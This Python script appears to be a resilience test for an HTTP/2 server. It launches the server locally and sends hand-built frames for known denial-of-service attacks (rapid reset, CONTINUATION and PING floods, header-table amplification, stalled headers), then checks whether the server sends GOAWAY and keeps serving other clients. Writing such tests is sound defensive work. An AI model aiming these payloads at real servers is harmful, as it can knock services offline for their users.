"""Attacks on a server that prints its port, one connection each: what ended it, and whether another client
was served meanwhile. Frames are made by hand, since no library would send them."""

import signal
import socket
import struct
import subprocess
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request(path):
    return bytes([0x83, 0x86, 0x04, len(path)]) + path + bytes([0x41, 1]) + b"x"


def streams(count, flags, path, *after):
    """`count` requests, each followed by frames (kind, payload) on its stream."""
    return b"".join(
        frame(HEADERS, flags, s, request(path)) + b"".join(frame(k, 0, s, p) for k, p in after)
        for s in range(1, 2 * count, 2)
    )


def window(size):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size))


HELLO = PREFACE + frame(SETTINGS, 0, 0)
WHOLE = END_STREAM | END_HEADERS
LARGE_FIELD = b"\x40\x01a\x7f\xa1\x1e" + b"z" * 4000  # put into the table, then named again and again
ATTACKS = (
    ("rapid reset", HELLO + streams(5000, WHOLE, b"/wait", (RST_STREAM, b"\0\0\0\x08"))),
    ("streams made to be reset", HELLO + streams(5000, WHOLE, b"/wait", (WINDOW_UPDATE, b"\x7f\xff\xff\xff"))),
    ("CONTINUATION", HELLO + frame(HEADERS, 0, 1, request(b"/")) + frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 9999),
    ("empty CONTINUATION", HELLO + frame(HEADERS, 0, 1, request(b"/")) + frame(CONTINUATION, 0, 1) * 9999),
    ("PING", HELLO + frame(PING, 0, 0, b"12345678") * 50000),
    ("SETTINGS", HELLO + window(65535) * 20000),
    ("PRIORITY", HELLO + frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 50000),
    ("empty DATA", HELLO + frame(HEADERS, END_HEADERS, 1, request(b"/body")) + frame(DATA, 0, 1) * 50000),
    (
        "large fields, small on the wire",
        HELLO + frame(HEADERS, 0, 1, request(b"/") + LARGE_FIELD) + frame(CONTINUATION, END_HEADERS, 1, b"\xbe" * 16000),
    ),
    ("headers that never end", HELLO + frame(HEADERS, 0, 1, request(b"/"))),
    ("silence", b""),
    ("not HTTP/2", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
    ("a body that never comes", HELLO + frame(HEADERS, END_HEADERS, 1, request(b"/body"))),
    ("a window of 0", PREFACE + window(0) + frame(HEADERS, WHOLE, 1, request(b"/large"))),
)


def connect(port, data):
    peer = socket.create_connection(("127.0.0.1", port))
    peer.settimeout(10)
    try:
        peer.sendall(data)
    except OSError:
        pass  # cut off while it was sending
    return peer


def frames(peer):
    """Frames until the server closes: (kind, payload)."""
    data = bytearray()
    try:
        while chunk := peer.recv(65536):
            data += chunk
            while len(data) >= 9 and len(data) >= 9 + (length := int.from_bytes(data[:3], "big")):
                yield data[3], bytes(data[9 : 9 + length])
                del data[: 9 + length]
    except ConnectionError:
        pass


def is_served(port):
    peer = connect(port, HELLO + frame(HEADERS, WHOLE, 1, request(b"/")))
    served = any(kind == DATA and payload == b"hello" for kind, payload in frames_until_data(peer))
    peer.close()
    return served


def frames_until_data(peer):
    for kind, payload in frames(peer):
        yield kind, payload
        if kind == DATA:
            return


def attack(port, data):
    peer = connect(port, data)
    served = is_served(port)
    ends, reset = [], ""
    for kind, payload in frames(peer):
        if kind == RST_STREAM and struct.unpack(">I", payload)[0] == 8:
            reset = "reset, "
        if kind == GOAWAY:
            ends.append(struct.unpack(">I", payload[4:8])[0])
    peer.close()
    how = NAMES.get(ends[-1], ends[-1]) if ends else "closed"
    return f"{reset}{how}, another client is {'served' if served else 'not served'}"


server = subprocess.Popen([sys.argv[1]], stdout=subprocess.PIPE, text=True)
port = int(server.stdout.readline())
for name, data in ATTACKS:
    print(f"{name}: {attack(port, data)}", flush=True)
server.send_signal(signal.SIGTERM)
print("the server ends with", server.wait(20))
